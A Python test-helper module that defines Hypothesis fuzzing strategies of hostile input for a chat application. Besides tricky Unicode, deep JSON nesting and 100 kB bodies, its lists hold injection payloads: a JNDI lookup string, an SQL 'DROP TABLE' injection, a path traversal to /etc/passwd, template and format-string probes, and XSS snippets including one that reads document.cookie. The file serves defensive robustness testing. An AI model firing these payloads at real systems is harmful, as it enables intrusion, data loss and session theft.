"""Hypothesis strategies of hostile input, shared by the fuzz tests.

Text goes beyond what a keyboard types: emoji and their joiners, right-to-left marks and
scripts, control characters, lone UTF-16 surrogates (a JavaScript app that cuts a message in
the middle of an emoji sends one), combining marks; markup and script; 100 kB bodies;
wrong JSON types; nesting thousands of levels deep.
"""

from __future__ import annotations

import json
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# The same cases every run (a failure reproduces), no example database left in the checkout.
FUZZ_SETTINGS = dict(
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
        HealthCheck.function_scoped_fixture,
    ],
)


def fuzz_settings(max_examples: int) -> settings:
    return settings(max_examples=max_examples, **FUZZ_SETTINGS)


HUNDRED_KB = 100_000

TRICKY = [
    "😀",
    "👩‍👩‍👧‍👦",  # a family: four emoji joined by ZWJ
    "🇫🇷",
    "\u202e",  # right-to-left override
    "\u200f",  # right-to-left mark
    "שלום",
    "مرحبا",
    "\u0000",
    "\u0007",
    "\u001b[31m",
    "\u007f",
    "\u0085",
    "\u2028",
    "\ufeff",
    "\ufffd",
    "\ud83d",  # a lone high surrogate
    "\udc00",  # a lone low surrogate
    "e\u0301\u0301\u0301",
    "\U0010ffff",
    "%s%n%x",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "'; DROP TABLE events; --",
    "../../../../etc/passwd",
    "/restart",
    "/session_start",
    '/ask_human{"x": 1}',
    '/inform{"care_type": "<b>"}',
]

MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">clic</a>',
    "<iframe src=//evil.example></iframe>",
    "</div><div onmouseover=alert(1)>",
    "[lien](javascript:alert(1))",
    "<b>gras</b>",
    '"><script>alert(document.cookie)</script>',
    "&lt;script&gt;",
]

# What the app and the widget put in a message's metadata, and one key they never send.
METADATA_KEYS = ["auth_token", "journey", "lang", "x-unknown"]

# Every code point, lone surrogates included (Hypothesis leaves them out by default).
any_char = st.characters(exclude_categories=[])
unicode_text = st.lists(
    st.one_of(any_char, st.sampled_from(TRICKY), st.sampled_from(MARKUP)), max_size=40
).map("".join)

json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    unicode_text,
)
json_value = st.recursive(
    json_leaf,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(unicode_text, children, max_size=4)
    ),
    max_leaves=12,
)


def nested(depth: int, kind: str) -> str:
    """JSON text nested `depth` levels deep."""
    if kind == "list":
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


def hundred_kb(seed: str) -> str:
    """`seed` repeated to 100 kB of UTF-8."""
    seed = seed or "a"
    sizes = [len(c.encode("utf-8", "surrogatepass")) for c in seed]
    chars, total, index = [], 0, 0
    while total + sizes[index % len(seed)] <= HUNDRED_KB:
        chars.append(seed[index % len(seed)])
        total += sizes[index % len(seed)]
        index += 1
    return "".join(chars)


def dumps(value: Any, ascii_only: bool) -> bytes:
    """JSON bytes; with `ascii_only` False, lone surrogates become invalid UTF-8 bytes."""
    if ascii_only:
        return json.dumps(value).encode()
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")
